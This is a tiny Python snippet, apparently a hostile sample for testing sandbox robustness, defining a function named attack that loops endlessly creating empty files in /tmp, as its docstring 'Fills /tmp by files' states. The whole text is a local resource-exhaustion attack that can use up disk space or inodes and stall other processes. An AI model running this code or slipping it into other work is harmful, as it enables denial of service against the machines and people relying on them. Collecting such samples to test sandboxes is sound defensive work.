"""Fills /tmp by files."""

def attack(x):
    number = 0
    while True:
        open(f"/tmp/zoo-{number}", "w").close()
        number += 1
